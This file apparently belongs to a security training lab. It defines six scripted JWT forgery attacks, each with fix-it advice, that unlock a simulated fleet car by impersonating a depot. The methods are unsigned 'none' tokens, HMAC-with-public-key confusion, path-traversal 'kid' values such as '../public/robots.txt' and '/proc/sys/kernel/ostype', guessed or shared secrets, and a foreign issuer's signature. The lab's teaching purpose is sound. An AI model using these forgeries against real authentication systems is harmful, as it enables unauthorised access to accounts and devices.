import {
  command,
  defineAttacks,
  type Forgery,
  forgeToken,
  hiddenVariant,
  type LabWorld,
  publicKeyPem,
  stopsAt,
  type Variant,
  variant,
} from '../../src/lab-kit/index.ts';

type Claims = Readonly<Record<string, unknown>>;
type Forge = (world: LabWorld) => Promise<string>;

/** What everybody can do with a token in hand: read it, and say the same about a depot. */
function depotClaims(world: LabWorld, more: Claims = {}): Claims {
  const [, payload = ''] = (world.secrets['my-token'] ?? '').split('.');
  const mine: Claims = JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/')));
  return { ...mine, sub: 'depot-2', role: 'depot', ...more };
}

/** The forger signs in as a depot that does not exist, and opens a car. */
function unlockWith(forge: Forge): Variant['run'] {
  return async (world) => {
    const as = { clientId: 'depot-2', userName: 'depot-2', password: await forge(world) };
    const effect = { device: 'car-12', property: 'doors', value: 'unlocked' };
    return command({ as, topicName: 'fleet/car-12/unlock', payload: 'UNLOCK', effect })(world);
  };
}

function forged(header: Claims, more: Omit<Forgery, 'header' | 'claims'> = {}, claims: Claims = {}): Forge {
  return (world) => forgeToken({ header, claims: depotClaims(world, claims), ...more });
}

/** Signed with the text of a public key, as everybody can fetch it. */
function underPublicKey(kid: string, header: Claims, claims: Claims = {}): Forge {
  return async (world) => {
    const answer = await world.request('keys', new Request('http://keys/jwks.json'));
    const { keys } = (await answer.json()) as { keys: (JsonWebKey & { kid: string })[] };
    const jwk = keys.find((key) => key.kid === kid);
    if (jwk === undefined) throw new Error(`The key set is without ${kid}.`);
    const hmacKey = (await publicKeyPem(jwk)).trimEnd();
    return forgeToken({ header: { alg: 'HS256', ...header }, claims: depotClaims(world, claims), hmacKey });
  };
}

const robots = 'User-agent: *\nDisallow: /\n';
const contact = 'Contact: mailto:security@kestrel.example\nExpires: 2027-01-01T00:00:00Z\n';

function underFile(kid: string, hmacKey: string, claims: Claims = {}): Forge {
  return forged({ alg: 'HS256', typ: 'JWT', kid }, { hmacKey }, claims);
}

/** Signed with the word that a cracker finds in the bench's token. */
function underWord(header: Claims, claims: Claims = {}): Forge {
  return (world) =>
    forgeToken({
      header: { alg: 'HS256', ...header },
      claims: depotClaims(world, { iss: 'dev', ...claims }),
      hmacKey: world.secrets['bench-secret'] ?? '',
    });
}

/** A genuine signature, by whoever has this key. */
function signedBy(key: string, header: Record<string, string> = {}): Forge {
  return (world) => {
    const claims = { iss: 'kestrel', aud: 'mqtt.kestrel.example', sub: 'depot-2', role: 'depot' };
    return world.token({ key, claims, header });
  };
}

const stops = stopsAt(['connect'], ['refused', 'closed']);

export default defineAttacks([
  {
    id: 'A1',
    title: 'Nothing to verify',
    objective: 'A1',
    goal: 'opens a car with a token that says it is not signed.',
    stops,
    advice: 'A token without a signature was believed. No token may be taken at its word that it needs none.',
    variants: [
      variant('none', '`alg` is `none`', unlockWith(forged({ alg: 'none' }))),
      hiddenVariant('capitalized', '`None`', unlockWith(forged({ alg: 'None' }))),
      hiddenVariant('capitals', '`NONE`', unlockWith(forged({ alg: 'NONE', typ: 'JWT' }))),
      hiddenVariant('mixed', '`nOnE`', unlockWith(forged({ alg: 'nOnE', typ: 'JWT' }))),
      hiddenVariant(
        'with-kid',
        'with the `kid` of a real key',
        unlockWith(forged({ alg: 'none', kid: 'kestrel-2026a' })),
      ),
      hiddenVariant(
        'old-signature',
        'with the signature of a genuine token left on',
        unlockWith((world) => {
          const [, , signature = ''] = (world.secrets['my-token'] ?? '').split('.');
          return forged({ alg: 'none' }, { signature })(world);
        }),
      ),
    ],
  },
  {
    id: 'A2',
    title: 'Key confusion',
    objective: 'A2',
    goal: 'opens a car with an HMAC made with the text of the public key.',
    stops,
    advice:
      'The public key’s text was used as a secret. The token chose the algorithm; the verifier has to know it from the issuer.',
    variants: [
      variant('pem', 'HS256 with the text of the public key', unlockWith(underPublicKey('kestrel-2026a', {}))),
      hiddenVariant(
        'next-key',
        'with the text of the next key',
        unlockWith(underPublicKey('kestrel-2026b', { typ: 'JWT' })),
      ),
      hiddenVariant(
        'with-kid',
        'and with its `kid`',
        unlockWith(underPublicKey('kestrel-2026a', { kid: 'kestrel-2026a', typ: 'JWT' })),
      ),
      hiddenVariant(
        'crossed-kid',
        'with the `kid` of the other key',
        unlockWith(underPublicKey('kestrel-2026b', { kid: 'kestrel-2026a' })),
      ),
    ],
  },
  {
    id: 'A3',
    title: 'A key from the disk',
    objective: 'A3',
    goal: 'opens a car with a token whose key is a file that everybody knows.',
    stops,
    advice: 'The token named the file from which its key was read. `kid` is an index into your table and nothing else.',
    variants: [
      variant('robots', '`kid` is `../public/robots.txt`', unlockWith(underFile('../public/robots.txt', robots))),
      hiddenVariant(
        'security-contact',
        'another file of the website',
        unlockWith(underFile('../public/.well-known/security.txt', contact)),
      ),
      hiddenVariant(
        'kernel',
        'a file that every Linux has',
        unlockWith(underFile('/proc/sys/kernel/ostype', 'Linux\n')),
      ),
      hiddenVariant(
        'by-nobody',
        'in the name of an issuer that does not exist',
        unlockWith(underFile('../public/robots.txt', robots, { iss: 'nobody' })),
      ),
    ],
  },
  {
    id: 'A4',
    title: 'A secret that can be guessed',
    objective: 'A5',
    goal: 'opens a car with a token signed with a word from a list.',
    stops,
    advice:
      'A secret that a computer guesses in a second signs for depots. HS256 needs 256 random bits, and an issuer that is not needed needs no row.',
    variants: [
      variant('minted', 'minted with the word found', unlockWith(underWord({ typ: 'JWT', kid: 'bench' }))),
      hiddenVariant('without-kid', 'without a `kid`', unlockWith(underWord({}))),
      hiddenVariant(
        'role-list',
        'the role in a list',
        unlockWith(underWord({ kid: 'bench' }, { role: ['renter', 'depot'] })),
      ),
    ],
  },
  {
    id: 'A5',
    title: 'A strong secret that every car has',
    goal: 'opens a car with a token signed with what was read out of another.',
    stops,
    advice:
      'Every car of the first series holds kestrel-fob, and whoever has a secret that verifies can sign with it. Devices must not have the key that makes depots.',
    variants: [
      variant('from-flash', 'signed with the secret out of a car’s flash memory', unlockWith(signedBy('kestrel-fob'))),
      hiddenVariant(
        'forged-by-hand',
        'the same by hand',
        unlockWith((world) =>
          forgeToken({
            header: { alg: 'HS256', kid: 'kestrel-fob' },
            claims: depotClaims(world),
            hmacKey: world.secrets['fob-secret'] ?? '',
          }),
        ),
      ),
    ],
  },
  {
    id: 'A6',
    title: 'Signed by somebody else',
    goal: 'opens a car with a genuine signature of another company.',
    stops,
    advice:
      'A signature by Harrier’s key counted as Kestrel’s. A key says who signed; which keys may sign for whom is for the row of the issuer to say.',
    variants: [
      variant('other-company', 'Harrier signs in Kestrel’s name', unlockWith(signedBy('harrier-2026'))),
      hiddenVariant('other-type', 'with another `typ`', unlockWith(signedBy('harrier-2026', { typ: 'at+jwt' }))),
    ],
  },
]);
